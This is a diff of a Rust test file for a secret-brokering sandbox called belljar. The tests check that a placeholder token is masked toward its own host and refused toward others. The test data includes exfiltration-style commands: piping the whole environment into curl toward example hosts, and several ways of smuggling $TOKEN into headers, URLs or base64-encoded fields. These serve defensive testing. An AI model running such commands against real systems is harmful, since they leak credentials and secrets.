@@ -87,7 +87,6 @@ fn broker_denies_requests_with_a_placeholder_outside_of_its_slot() {
     let (lab, upstream) = lab_with_secret_and_echo("\"header:authorization\"");
     for request in [
         "-H \"x-other: $TOKEN\" https://api.example.com/",
-        "-d \"{\\\"a\\\": \\\"$TOKEN\\\"}\" https://api.example.com/",
         "\"https://api.example.com/?t=$TOKEN\"",
         "https://api.example.com/$TOKEN",
         "-H \"user-agent: $(printf %s $TOKEN | base64 -w0)\" https://api.example.com/",
@@ -165,9 +164,49 @@ fn a27_broker_inspects_websocket_messages_in_both_directions() {
         received.last().unwrap().header("authorization"),
         Some(format!("Bearer {SECRET_VALUE}").as_str())
     );
-    let stopped = run("say-TOKEN-aloud");
-    assert_ne!(stopped.code(), 0, "{}", stopped.out());
-    assert!(stopped.err().contains("alarm: placeholder-elsewhere"), "{}", stopped.err());
+    let masked = run("say-TOKEN-aloud");
+    assert_eq!(masked.expect(0), "101\nBearer [belljar:token]\nsay-[belljar:token]-aloud");
+    assert!(!masked.err().contains("alarm"), "{}", masked.err());
+}
+
+#[test]
+fn b01_placeholder_in_a_body_is_masked_toward_its_host_and_refused_toward_another() {
+    let authority = Authority::new();
+    let echo = |received: &belljar_testkit::Received| Reply::new(200, received.body.clone());
+    let own = Upstream::tls(&authority, &["api.example.com"], echo);
+    let other = Upstream::tls(&authority, &["other.example.com"], echo);
+    let lab = lab_with_secret("\"header:authorization\"", &own, &authority);
+    let file = lab.home().join(".config/belljar/belljar.toml");
+    let rules = std::fs::read_to_string(&file).unwrap();
+    let more = rule("other.example.com", &other, "");
+    std::fs::write(&file, format!("{rules}\n{more}")).unwrap();
+    // A body with a length, a chunked body, and a body after the placeholder was sent in its slot.
+    let post = |host: &str, how: &str| {
+        format!(
+            "env | curl -sS {how} -H 'content-type: text/plain' --data-binary @- https://{host}/ | grep -a ^TOKEN="
+        )
+    };
+    let bearer = "-H \"authorization: Bearer $TOKEN\"";
+    for how in ["", "-H 'transfer-encoding: chunked' --http1.1", bearer] {
+        let ended = lab.bash(&post("api.example.com", how)).run();
+        assert_eq!(ended.expect(0).trim(), "TOKEN=[belljar:token]", "{how}: {}", ended.err());
+        assert!(!ended.err().contains("alarm"), "{}", ended.err());
+    }
+    let lengths: Vec<Option<String>> =
+        own.received().iter().map(|it| it.header("content-length").map(str::to_owned)).collect();
+    assert!(lengths[0].is_some(), "a body with a length keeps one: {lengths:?}");
+    let log = lab.belljar(["ledger", "log", "--json", "--kind", "secret.masked"]).succeed();
+    assert_eq!(log.lines().count(), 3, "{log}");
+    // Toward another host, the body is refused and no byte of the placeholder is sent.
+    let refused = lab.bash(&post("other.example.com", "")).run();
+    assert_ne!(refused.code(), 0, "{}", refused.out());
+    assert!(refused.err().contains("alarm: placeholder-elsewhere"), "{}", refused.err());
+    for it in other.received() {
+        assert!(!String::from_utf8_lossy(&it.body).contains("TOKEN=ghp_"), "{it:?}");
+    }
+    // Control: the other host gets bodies without a placeholder.
+    let control = "curl -sS -d hello https://other.example.com/";
+    assert_eq!(lab.bash(control).run().expect(0), "hello");
 }
 
 #[test]
